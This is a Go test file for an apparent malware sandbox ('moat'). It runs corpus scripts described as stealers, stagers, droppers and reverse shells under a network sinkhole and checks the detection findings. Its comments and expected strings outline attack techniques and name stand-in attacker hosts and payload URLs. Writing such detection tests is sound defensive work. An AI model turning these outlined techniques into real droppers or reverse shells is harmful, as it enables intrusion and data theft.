// down and names what it left out, the diff's walk too and says so (a
// finding), and still sees the startup file beside the tree. On native,
// and on docker and gVisor (the container init's walk and copy-out; the
// host's walk of gVisor's scratch) where they run.
func TestDeepTree(t *testing.T) {
	t.Parallel()
	for _, bk := range []struct {
		name string
		new  func() moat.Backend
	}{
		{"native", func() moat.Backend { return &native.Backend{} }},
		{"docker", func() moat.Backend { return docker.New(testImage(), "", "") }},
		{"gvisor", func() moat.Backend { return &gvisor.Backend{} }},
	} {
		t.Run(bk.name, func(t *testing.T) {
			moattest.RequireBackend(t, bk.name)
			out := filepath.Join(t.TempDir(), "out")
			res := run(t, bk.new(), filepath.Join("testdata", "corpus", "deep_tree.py"), func(s *moat.Spec) {
				s.OutDir, s.Limits.Timeout = out, 120*time.Second
			})
			if res.Status != moat.StatusExited || res.ExitCode != 0 || !strings.Contains(res.Stdout, "made") {
				dump(t, res)
				t.Fatalf("status %s exit %d: want the program's own end", res.Status, res.ExitCode)
			}
			if res.Out == nil || !slices.ContainsFunc(res.Out.Skipped, func(s string) bool { return strings.Contains(s, "deeper than 256 levels") }) {
				t.Errorf("copy-out %+v: want what is deeper than 256 levels named as skipped", res.Out)
			}
			if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
				return f.Category == moat.CategoryEvasion && strings.Contains(f.Summary, "deeper than 256 levels")
			}) {
				dump(t, res)
				t.Error("no finding says the walk did not go below 256 levels")
			}
			if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
				return f.Category == moat.CategoryPersistence && strings.Contains(f.Summary, "zz_beside.pth")
			}) {
				dump(t, res)
				t.Error("the .pth beside the deep tree went unseen")
			}
		})
	}
}

// TestDeepCwd: a program working 5,000 characters down still has its
// events, each bounded and naming its file: the hook asks the kernel for
// the working directory (/proc/self/cwd), not os.getcwd(), whose walk up
// the tree past PATH_MAX costs every event the square of the depth, and
// where the kernel will not name it (past PATH_MAX) walks up once
// itself. Each path names its tree and its file around a cut, a path
// climbing back out names where it lands, the kernel's exec of a
// relative path is named from /work too (on gVisor from the chdirs of
// its trace) and the file it ran hashed, and the cut paths are a
// finding: the report is incomplete.
func TestDeepCwd(t *testing.T) {
	t.Parallel()
	for _, bk := range []struct {
		name   string
		new    func() moat.Backend
		kernel bool // kernel exec events with the caller's working directory
	}{
		{"native", func() moat.Backend { return &native.Backend{} }, true},
		{"docker", func() moat.Backend { return docker.New(testImage(), "", "") }, true},
		{"podman", func() moat.Backend { return podman.New(testImage(), "") }, true},
		// gVisor's trace: named from the working directory moat follows
		{"gvisor", func() moat.Backend { return &gvisor.Backend{} }, true},
	} {
		t.Run(bk.name, func(t *testing.T) {
			moattest.RequireBackend(t, bk.name)
			deepCwd(t, bk.new(), bk.kernel)
		})
	}
}

func deepCwd(t *testing.T, b moat.Backend, kernel bool) {
	res := run(t, b, filepath.Join("testdata", "corpus", "deep_cwd.py"), func(s *moat.Spec) { s.Limits.Timeout = 120 * time.Second })
	if res.Status != moat.StatusExited || res.ExitCode != 0 || !strings.Contains(res.Stdout, "climbed") {
		dump(t, res)
		t.Fatalf("status %s exit %d", res.Status, res.ExitCode)
	}
	n := 0
	var climbed, exec, tru bool
	sum := ""
	for _, l := range strings.Split(res.Stdout, "\n") {
		if s, ok := strings.CutPrefix(l, "tru_sha "); ok {
			sum = s
		}
	}
	for _, e := range res.Events {
		if e.Source == moat.SourceAudit && strings.Contains(e.Path, "/marker") {
			if len(e.Path) > audit.MaxPath+64 || !strings.HasSuffix(e.Path, ".txt") || !strings.HasPrefix(e.Path, "/work/ppp") || !strings.Contains(e.Path, audit.CutMark) {
				t.Fatalf("event path %q: want at most %d bytes, from /work, cut in the middle, naming its file", e.Path, audit.MaxPath)
			}
			n++
		}
		climbed = climbed || e.Source == moat.SourceAudit && e.Path == "/work/climbed.txt"
		if kernel && e.Source == moat.SourceKernel && e.Kind == moat.KindExec && strings.HasSuffix(e.Path, "/tru") {
			// past PATH_MAX, the file that ran is hashed all the same
			tru = true
			if !strings.HasPrefix(e.Path, "/work/ppp") || !strings.Contains(e.Path, audit.CutMark) || e.SHA256 == "" || e.SHA256 != sum {
				t.Errorf("kernel exec %q: sha256 %q, want named from /work, cut in the middle, with the file's sha256 %s", e.Path, e.SHA256, sum)
			}
		}
		if kernel && e.Source == moat.SourceKernel && e.Kind == moat.KindExec && strings.HasSuffix(e.Path, "py") {
			exec = true
			if !strings.HasPrefix(e.Path, "/work/ppp") || !strings.Contains(e.Path, audit.CutMark) {
				t.Errorf("kernel exec path %q: want it named from /work, cut in the middle", e.Path)
			}
		}
	}
	if n < 200 {
		dump(t, res)
		t.Errorf("%d events of the 200 files opened", n)
	}
	if !climbed {
		t.Error("no audit event names /work/climbed.txt, opened from the deep directory by ../../...")
	}
	if !exec && kernel {
		t.Error("no kernel exec event of ./py")
	}
	if !tru && kernel {
		dump(t, res)
		t.Error("no kernel exec event of ./tru")
	}
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Category == moat.CategoryEvasion && f.Severity == moat.SeverityMedium && strings.Contains(f.Summary, "too long to name whole")
	}) {
		dump(t, res)
		t.Error("no finding says paths were cut")
	}
}

// TestCorpusPublicAddress: a stealer that first asks "what is my IP"
// services for its address and ISP (and quits on an empty answer, a
// cloud's ISP or answers that disagree) gets the run's one plausible
// address from the sink, goes on, and its theft is seen.
func TestCorpusPublicAddress(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, _ string, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "ip_check_stealer.py"), func(s *moat.Spec) { s.Network = moat.NetworkSinkhole })
		sent := false
		for _, f := range res.Findings {
			for _, e := range f.Evidence {
				sent = sent || f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical && e.Source == moat.SourceNetwork
			}
		}
		if !strings.HasPrefix(res.Stdout, "sent from ") || !sent {
			dump(t, res)
			t.Errorf("the address check passed %v, a critical exfiltration on the sink's evidence %v", strings.HasPrefix(res.Stdout, "sent from "), sent)
		}
	})
}

// TestCorpusRecon: a recon beacon that sends the machine's identity (host
// name and home, hex over DNS names; user, cwd and the environment's names,
// base64 in a POST) and no planted secret is a high identity finding on
// the sink's evidence, on every backend with a sinkhole: the persona each
// backend shows is what the report looks for.
func TestCorpusRecon(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, _ string, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "recon_beacon.py"), func(s *moat.Spec) { s.Network = moat.NetworkSinkhole })
		var dns, post bool
		for _, f := range res.Findings {
			if f.Severity != moat.SeverityHigh || !strings.HasPrefix(f.Summary, "sent the machine's identity to ") {
				continue
			}
			for _, e := range f.Evidence {
				dns = dns || e.Source == moat.SourceNetwork && e.Kind == moat.KindDNS && strings.Contains(f.Summary, "hostname (hex)")
				post = post || e.Source == moat.SourceNetwork && e.Kind != moat.KindDNS && strings.Contains(f.Summary, "an environment dump")
			}
		}
		if !dns || !post {
			dump(t, res)
			t.Errorf("a high identity finding on the sink's DNS names %v, on its POST %v", dns, post)
		}
	})
}

// TestCorpusGetlogin: os.getlogin() answers the persona's user, as in a
// login session, so a payload whose paths are built from it runs (on
// docker since its runs have the persona's /etc/passwd line). gVisor has
// no /proc/self/loginuid (and the program no terminal): there the hook
// gives os.getlogin() the user of the process's uid.
func TestCorpusGetlogin(t *testing.T) {
	t.Parallel()
	if b, err := os.ReadFile("/proc/self/loginuid"); err == nil && strings.TrimSpace(string(b)) != "4294967295" {
		// The kernel lets a login uid be set once: a moat started from
		// a login session passes its own on (docs/report.md).
		t.Skipf("this test runs in a login session (login uid %s): the program inherits it", strings.TrimSpace(string(b)))
	}
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "getlogin_persist.py"), nil)
		user, _ := strings.CutPrefix(strings.TrimSpace(res.Stdout), "login ")
		if user == "" || user == "root" || !has(res.Findings, moat.CategoryPersistence, moat.SeverityHigh) {
			dump(t, res)
			t.Errorf("os.getlogin() gave %q; a high persistence finding %v", user, has(res.Findings, moat.CategoryPersistence, moat.SeverityHigh))
		}
	})
}

// TestCorpusStage2: a second stage downloaded under the sinkhole is moat's
// inert stand-in; piped into a shell, exec()d by Python from a paste site
// over HTTPS, or written and run, it leaves its marker, and each is a
// critical finding that names the URL and how it ran.
func TestCorpusStage2(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "stage2_chain.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
			s.Userland = true
			if strings.HasPrefix(name, "gvisor") {
				// The run's pids cgroup holds the Sentry's host threads
				// and each address space's stub too: the default 256
				// ran out at the third process (status pids).
				s.Limits.Pids = 1024
			}
		})
		want := map[string]bool{
			"get.evil-cdn.example/install.sh as a shell script": false,
			"pastebin.com/raw/Xk3vQz9a as Python code":          false,
			"198.51.100.7/x/update.py as a shell script":        false,
		}
		for _, f := range res.Findings {
			if f.Category != moat.CategoryExecution || f.Severity != moat.SeverityCritical || strings.Contains(f.Summary, "audit hook") {
				continue
			}
			for w := range want {
				want[w] = want[w] || strings.Contains(f.Summary, "ran the second stage it downloaded from "+w)
			}
		}
		for w, ok := range want {
			if !ok {
				dump(t, res)
				t.Errorf("no critical finding that it ran %s on moat's evidence", w)
			}
		}
		// The script urlopen fetched and subprocess.run gave sh on its
		// stdin is a download fed to a shell, not a reverse shell.
		if fed, reverse := shellKinds(res); !strings.HasPrefix(fed, "fed a download to a shell: downloaded get.evil-cdn.example/install.sh") || reverse != "" {
			dump(t, res)
			t.Errorf("a critical finding of a download fed to a shell %q; a reverse shell finding %q (want none)", fed, reverse)
		}
	})
}

// TestCorpusStage2Forms: the sink serves a second stage in the form the
// dropper asks for (base64 for a .b64, an ELF for a .bin on x86-64, the
// script for a .py or .sh), and each that ran is critical, named by how it
// ran: the base64 one decoded and exec()d in-process, the ELF written and
// run.
func TestCorpusStage2Forms(t *testing.T) {
	t.Parallel()
	want := map[string]string{
		"cdn.evil-cdn.example/p/loader.b64 as Python code":                       "as base64 (the program decoded it)",
		"198.51.100.7/s/stage.py as Python code":                                 "",
		"pastebin.com/raw/VvkKsmxr as Python code after decoding it from base64": "",
		"get.evil-cdn.example/i.sh as a shell script":                            "",
	}
	if runtime.GOARCH == "amd64" {
		want["198.51.100.7/bin/agent.bin as a native program"] = "as an x86-64 program"
	}
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "stage2_forms.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
			s.Userland = true
		})
		// /tmp is exec everywhere (Docker's tmpfs too): the ELF runs.
		if strings.Contains(res.Stdout, "the program did not run") {
			dump(t, res)
			t.Error("the program written in /tmp did not run")
		}
		for w, form := range want {
			ok := false
			for _, f := range res.Findings {
				ok = ok || (f.Category == moat.CategoryExecution && f.Severity == moat.SeverityCritical && !strings.Contains(f.Summary, "audit hook") &&
					strings.Contains(f.Summary, "ran the second stage it downloaded from "+w) && strings.Contains(f.Summary, form))
			}
			if !ok {
				dump(t, res)
				t.Errorf("no critical finding that it ran %s (served %q) on moat's evidence", w, form)
			}
		}
	})
}

// TestCorpusStager: a staged reverse-TCP payload (DoNotDownload-0.0.0's
// Metasploit stager) waits for its stage on the connection; the sink sends
// the inert one first, and each form that ran (base64 of zlib decoded and
// exec()d, or the bytes exec()d as they came) is critical, on every backend
// with a sinkhole. Before, the sink sent nothing and the stager's
// connection was all (a medium finding).
func TestCorpusStager(t *testing.T) {
	t.Parallel()
	want := []string{
		"10.0.2.15:4444 as Python code after decoding it from base64",
		"203.0.113.9:8443 as Python code",
	}
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		res := run(t, b, filepath.Join("testdata", "corpus", "tcp_stager.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
			s.Userland = true
		})
		for _, w := range want {
			ok := false
			for _, f := range res.Findings {
				ok = ok || (f.Category == moat.CategoryExecution && f.Severity == moat.SeverityCritical && !strings.Contains(f.Summary, "audit hook") &&
					strings.Contains(f.Summary, "ran the second stage it downloaded from "+w+" (") && strings.Contains(f.Summary, "staged payload"))
			}
			if !ok {
				dump(t, res)
				t.Errorf("no critical finding that it ran the stage from %s on moat's evidence", w)
			}
		}
	})
}

// TestCorpusHelloStager: a staged loader that sends a short hello first
// and exec()s the zlib-decompressed answer (ploghandle-1.66's hidden
// zipapp) runs the sink's inert stage, a critical execution finding on
// moat's evidence, on every backend with a sinkhole. Before, the sink
// sent such a client nothing (a medium connection).
func TestCorpusHelloStager(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		wantHelloStager(t, run(t, b, filepath.Join("testdata", "corpus", "hello_stager.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
		}))
	})
}

func wantHelloStager(t *testing.T, res *moat.Result) {
	t.Helper()
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Category == moat.CategoryExecution && f.Severity == moat.SeverityCritical && !strings.Contains(f.Summary, "audit hook") &&
			strings.Contains(f.Summary, "ran the second stage it downloaded from 203.0.113.77:18080 as Python code after decompressing it (zlib) (") &&
			strings.Contains(f.Summary, "a loader that spoke first")
	}) {
		dump(t, res)
		t.Error("no critical finding that it ran the code the server sent after its hello, on moat's evidence")
	}
}

// TestCorpusDownloadRun: a Python dropper that fetches its program by
// name with http.client or urllib (djanga-0.4, infoglmi-0.0.8), writes it,
// makes it executable and runs it, runs the sink's inert stand-in: a
// critical execution finding for each download, on every backend with a
// sinkhole. Before, a library's GET of a name without extension got an
// empty 200, and the empty file run was a high "executed a file the run
// wrote".
func TestCorpusDownloadRun(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		wantDownloadRun(t, run(t, b, filepath.Join("testdata", "corpus", "download_run.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
			s.Userland = true
		}))
	})
}

func wantDownloadRun(t *testing.T, res *moat.Result) {
	t.Helper()
	for _, w := range []string{"198.51.100.31/out", "198.51.100.32/bin/worker"} {
		if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
			return f.Category == moat.CategoryExecution && f.Severity == moat.SeverityCritical && !strings.Contains(f.Summary, "audit hook") &&
				strings.Contains(f.Summary, "ran the second stage it downloaded from "+w+" as a shell script (")
		}) {
			dump(t, res)
			t.Errorf("no critical finding that it ran what it downloaded from %s, on moat's evidence", w)
		}
	}
}

// TestCorpusDomainFront: a request sent inside TLS to one site with the
// Host header of another (important-package-0.1.17's curl to pypi.org
// with a Fastly customer's Host) is a high evasion finding naming both,
// on every backend with a sinkhole. Before, only the first name showed
// (a medium identity finding there, for the home it sent).
func TestCorpusDomainFront(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		wantDomainFront(t, run(t, b, filepath.Join("testdata", "corpus", "domain_front.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
		}))
	})
}

func wantDomainFront(t *testing.T, res *moat.Result) {
	t.Helper()
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Category == moat.CategoryEvasion && f.Severity == moat.SeverityHigh &&
			strings.Contains(f.Summary, "domain fronting") && strings.Contains(f.Summary, "TLS to cdn-customer.example, Host hidden-origin.example")
	}) {
		dump(t, res)
		t.Error("no high finding of the request fronted by another site's TLS name")
	}
}

// TestCorpusFailedReverseShell: a reverse shell whose exec fails (its
// socket on fds 0, 1, 2, the shell's path wrong) is a high execution
// finding on the kernel's failed exec, where the kernel witness reads a
// failed exec's stdio: native's seccomp listener. Not carried by docker,
// podman, gVisor and the micro-VM: their witnesses record the failed exec
// without its stdio (a reverse shell that starts is found there by its
// connection before the shell), so the attempt is the connection alone,
// medium (seen on each, session 22). Before, native had no finding beyond
// the connection either.
func TestCorpusFailedReverseShell(t *testing.T) {
	t.Parallel()
	for _, bk := range []struct {
		name string
		new  func(t *testing.T) moat.Backend
	}{
		{"native", func(t *testing.T) moat.Backend { return moattest.RequireBackend(t, "native") }},
		// the containers' init reads a failed exec's stdio too (session 23)
		{"docker", func(t *testing.T) moat.Backend {
			moattest.RequireBackend(t, "docker")
			return docker.New(testImage(), "", "")
		}},
		{"podman", func(t *testing.T) moat.Backend {
			moattest.RequireBackend(t, "podman")
			return podman.New(testImage(), "")
		}},
	} {
		t.Run(bk.name, func(t *testing.T) {
			wantFailedReverseShell(t, run(t, bk.new(t), filepath.Join("testdata", "corpus", "failed_reverse_shell.py"), func(s *moat.Spec) {
				s.Network = moat.NetworkSinkhole
			}))
		})
	}
}

func wantFailedReverseShell(t *testing.T, res *moat.Result) {
	t.Helper()
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Category == moat.CategoryExecution && f.Severity == moat.SeverityHigh &&
			strings.HasPrefix(f.Summary, "tried to start a program with its stdio on a socket") && strings.Contains(f.Summary, "b'")
	}) {
		dump(t, res)
		t.Error("no high finding of the reverse shell that failed to start")
	}
}

// TestCorpusDNSNumbered: the environment's fake secrets in urlsafe
// base64 (its case kept), in numbered DNS chunks looked up last first,
// are a critical exfiltration finding on the sink's lookups, on every
// backend with a sinkhole. Before, the sink lowercased every name and the
// chunks were joined as they arrived: no finding above low.
func TestCorpusDNSNumbered(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		wantDNSNumbered(t, run(t, b, filepath.Join("testdata", "corpus", "dns_numbered.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
		}))
	})
}

func wantDNSNumbered(t *testing.T, res *moat.Result) {
	t.Helper()
	wantExfil(t, res, ownEvidence, "in their chunks' numbered order")
}

// TestCorpusDropperChain: a one-liner that downloads a program, makes it
// executable and runs it, stopped before the download by a privileged
// first step that fails in the sandbox (secretslib-0.1.0: sudo apt
// install, wget, chmod +x, sudo ./tox), is a high execution finding on
// the kernel's command line, on every backend with a sinkhole. Before,
// it was a low "ran shell commands".
func TestCorpusDropperChain(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		wantDropperChain(t, run(t, b, filepath.Join("testdata", "corpus", "dropper_chain.py"), func(s *moat.Spec) {
			s.Network = moat.NetworkSinkhole
			s.Userland = true
		}))
	})
}

func wantDropperChain(t *testing.T, res *moat.Result) {
	t.Helper()
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Category == moat.CategoryExecution && f.Severity.Rank() >= moat.SeverityHigh.Rank() &&
			strings.HasPrefix(f.Summary, "downloaded a program, made it executable and ran it") && strings.Contains(f.Summary, "198.51.100.23/bin/agent") &&
			slices.ContainsFunc(f.Evidence, func(e moat.Event) bool { return e.Source == moat.SourceKernel })
	}) {
		dump(t, res)
		t.Error("no high finding on the kernel's command line that downloads a program, makes it executable and runs it")
	}
}

// TestCorpusInProcessShell: a shell inside the program's own process,
// exec() of what the server sends in a loop (no exec of a program), runs
// the sink's stage (its length sent first and alone, the code after) and
// is a critical execution finding on moat's evidence, on every backend
// with a sinkhole (session 20: before, the length's NUL bytes failed the
// first exec, nothing came after, and the connection was all: medium).
func TestCorpusInProcessShell(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		wantInProcessShell(t, b)
	})
}

func wantInProcessShell(t *testing.T, b moat.Backend) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", "inproc_shell.py"), func(s *moat.Spec) {
		s.Network = moat.NetworkSinkhole
		s.Limits.Timeout = time.Minute
	})
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Category == moat.CategoryExecution && f.Severity == moat.SeverityCritical && !strings.Contains(f.Summary, "audit hook") &&
			strings.Contains(f.Summary, "ran the second stage it downloaded from 203.0.113.61:4444 as Python code (")
	}) {
		dump(t, res)
		t.Error("no critical finding that it ran the code the server sent, on moat's evidence")
	}
}

// shellKinds: the summaries of res's critical findings of a download fed
// to a shell and of a reverse shell, "" for none.
func shellKinds(res *moat.Result) (fed, reverse string) {
	for _, f := range res.Findings {
		switch {
		case f.Severity != moat.SeverityCritical:
		case strings.HasPrefix(f.Summary, "fed a download to a shell: ") && fed == "":
			fed = f.Summary
		case strings.HasPrefix(f.Summary, "reverse shell: ") && reverse == "":
			reverse = f.Summary
		}
	}
	return fed, reverse
}

// TestCorpusReverseShells: a shell whose stdio is a connection, made the
// ways payloads make it (a shell with the socket as its own stdio, as nc -e
// and socat exec do; trustypip's dup2 and pty.spawn, where the shell's
// stdio is a pty and the socket its parent's; Python itself, interactive,
// on the socket: red team, session 18), is a critical reverse shell on
// every backend, and not a download fed to a shell.
func TestCorpusReverseShells(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, name string, b moat.Backend) {
		for _, f := range []string{"socket_stdio_shell.py", "pty_spawn_shell.py", "reverse_shell.py", "interp_stdio_shell.py", "interact_shell.py"} {
			t.Run(strings.TrimSuffix(f, ".py"), func(t *testing.T) {
				res := run(t, b, filepath.Join("testdata", "corpus", f), func(s *moat.Spec) {
					s.Network = moat.NetworkSinkhole
					s.Userland = true
				})
				if fed, reverse := shellKinds(res); reverse == "" || fed != "" {
					dump(t, res)
					t.Errorf("a critical reverse shell finding %q; a download fed to a shell %q (want none)", reverse, fed)
				}
			})
		}
	})
}

// onSinkBackends runs fn on native and on every backend that has moat's
// network sink (docker, podman, gVisor): a form of the corpus that the
// sink witnesses is carried by each.
func onSinkBackends(t *testing.T, fn func(t *testing.T, b moat.Backend), except ...string) {
	for _, bk := range []struct {
		name string
		new  func() moat.Backend
	}{
		{"native", nil},
		{"docker", func() moat.Backend { return docker.New(testImage(), "", "") }},
		{"podman", func() moat.Backend { return podman.New(testImage(), "") }},
		{"gvisor", func() moat.Backend { return &gvisor.Backend{} }},
	} {
		if slices.Contains(except, bk.name) {
			continue
		}
		t.Run(bk.name, func(t *testing.T) {
			b := moattest.RequireBackend(t, bk.name)
			if bk.new != nil {
				b = bk.new()
			}
			fn(t, b)
		})
	}
}

// wantExfil fails t unless res has, for each of want, a critical
// exfiltration finding whose summary holds it and that own says rests on
// moat's own evidence.
func wantExfil(t *testing.T, res *moat.Result, own func(moat.Finding) bool, want ...string) {
	t.Helper()
	dumped := false
	for _, w := range want {
		found := false
		for _, f := range res.Findings {
			found = found || f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, w) && own(f)
		}
		if !found {
			if !dumped {
				dump(t, res)
				dumped = true
			}
			t.Errorf("no critical exfiltration finding %q on moat's own evidence", w)
		}
	}
}

// wantRace runs file (up to three times, until the race made
// the witness read another file than the one that ran at least once)
// and checks its report: the dropped copy is named by a high execution
// finding, and, where a seccomp witness reads the exec's name (swapped),
// every child whose read (its kernel exec event) disagrees with what ran
// (its line on stdout) has an exe-swapped event naming what ran, hashed,
// and the run a high evasion finding.
//
// file is exec_race.py, exec_race_quiet.py, whose dropped program makes
// no watched call after its exec (it ends by SYS_exit, kills itself, or
// is killed by its parent), or exec_race_self.py, whose other program is
// the caller's own (its first line "evil-path P" names it), or
// "exec_race_quiet.py xonly", its run of a file of mode 0111 (where its
// process may not be read after, a hidden exec event will do).
func wantRace(t *testing.T, b moat.Backend, file string, swapped bool) {
	t.Helper()
	file, arg, _ := strings.Cut(file, " ")
	for try := 1; ; try++ {
		// 60 to 90 children with a busy thread each: under gVisor on a
		// busy host, more than the default 20 s.
		res := run(t, b, filepath.Join("testdata", "corpus", file), func(s *moat.Spec) {
			userland(s)
			s.Limits.Timeout = 2 * time.Minute
			if arg != "" {
				s.Args = append(s.Args, arg)
			}
		})
		ran := map[int]string{}
		evil := "/tmp/.r/evil"
		for _, l := range strings.Split(res.Stdout, "\n") {
			if p, ok := strings.CutPrefix(l, "evil-path "); ok {
				evil = p // exec_race_self.py: the interpreter
				continue
			}
			var pid int
			var what string
			if n, _ := fmt.Sscanf(l, "ran %d %s", &pid, &what); n >= 2 {
				ran[pid] = map[string]string{"evil": evil, "good": "true"}[what]
			}
		}
		if !strings.Contains(res.Stdout, "evil-ran") || len(ran) == 0 {
			dump(t, res)
			t.Fatalf("the program did not finish: %q", res.Stdout)
		}
		if evil == "/tmp/.r/evil" {
			wantNamed(t, res, moat.CategoryExecution, evil)
		}
		if !swapped {
			return
		}
		disagreed, quiet := 0, 0
		// xonly: the dropped file is mode 0111, which the containers'
		// init may neither read nor, once run, follow.
		xonly := arg == "xonly"
		for _, e := range res.Events {
			if e.Source != moat.SourceKernel || e.Kind != moat.KindExec || e.Name != "execve" || ran[e.PID] == "" {
				continue
			}
			if read, got := path.Base(e.Path), path.Base(ran[e.PID]); read == got || !slices.Contains([]string{path.Base(evil), "true"}, read) {
				continue
			}
			disagreed++
			if ran[e.PID] == evil {
				quiet++ // the other program ran (exec_race_quiet.py: no watched call after; exec_race_self.py: the exe before)
			}
			if xonly && ran[e.PID] != evil {
				continue // the mode-0111 file read, unopened: true ran, an exe event
			}
			if !slices.ContainsFunc(res.Events, func(k moat.Event) bool {
				return k.Name == moat.ExecSwapped && k.PID == e.PID && k.SHA256 != "" && path.Base(k.Path) == path.Base(ran[e.PID]) ||
					xonly && k.Name == moat.ExecRan && k.PID == e.PID && strings.Contains(k.Detail, "hid its memory")
			}) {
				dump(t, res)
				t.Errorf("pid %d: the witness read %s, %s ran, and no exe-swapped event says so", e.PID, e.Path, ran[e.PID])
			}
		}
		if disagreed > 0 && (quiet > 0 || file == "exec_race.py" || xonly) {
			if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
				return f.Category == moat.CategoryEvasion && f.Severity.Rank() >= moat.SeverityHigh.Rank() &&
					slices.ContainsFunc(f.Evidence, func(e moat.Event) bool { return e.Name == moat.ExecSwapped || e.Name == moat.ExecRan })
			}) {
				dump(t, res)
				t.Errorf("no high evasion finding on %d execs that ran another file than the one read", disagreed)
			}
			return
		}
		if try == 3 {
			dump(t, res)
			t.Fatal("in 3 runs the witness never read another file than the one that ran (exec_race_quiet.py: while the dropped one ran): the race did not happen")
		}
	}
}

// wantHidden checks exec_nodump.py's report: the dropped program the
// non-dumpable child ran is named by a high execution finding, or, where
// the witness could not read the child, the hidden exec is a high
// evasion finding.
func wantHidden(t *testing.T, res *moat.Result) {
	t.Helper()
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Severity.Rank() >= moat.SeverityHigh.Rank() &&
			(f.Category == moat.CategoryExecution && strings.Contains(f.Summary, "/tmp/.n/tool") ||
				f.Category == moat.CategoryEvasion && strings.Contains(f.Summary, "hid its memory"))
	}) {
		dump(t, res)
		t.Error("the non-dumpable child's exec of /tmp/.n/tool is neither named nor a high evasion finding")
	}
}

// wantRan checks that a kernel event names what an exec ran by the
// kernel's link, with its hash, where its name could not be opened.
func wantRan(t *testing.T, res *moat.Result) {
	t.Helper()
	if !slices.ContainsFunc(res.Events, func(e moat.Event) bool {
		return e.Source == moat.SourceKernel && e.Name == moat.ExecRan && e.SHA256 != "" && strings.HasPrefix(e.Path, "/")
	}) {
		dump(t, res)
		t.Error("no kernel event of what the exec ran, hashed")
	}
}

// toolPayloads: tool_payloads.py's run, with the userland and the sinkhole.
func toolPayloads(s *moat.Spec) {
	s.Userland, s.Network = true, moat.NetworkSinkhole
	s.Limits.Timeout = time.Minute // dig waits for its answers
}

// wantToolPayloads checks tool_payloads.py's report: curl's and wget's
// downloads ran as shell scripts (the sink's inert stage), and dig's
// lookups carried the secret out.
func wantToolPayloads(t *testing.T, res *moat.Result) {
	t.Helper()
	for _, m := range []string{"downloaded from 203.0.113.41/env as a shell script", "downloaded from 203.0.113.42/aza-ob.sh as a shell script"} {
		if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
			return f.Category == moat.CategoryExecution && f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, m)
		}) {
			dump(t, res)
			t.Errorf("no critical execution finding: ran the second stage it %s", m)
		}
	}
	if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
		return f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, "split over DNS lookups below sl4x0.example")
	}) {
		dump(t, res)
		t.Error("no critical exfiltration finding of the secret dig sent")
	}
}
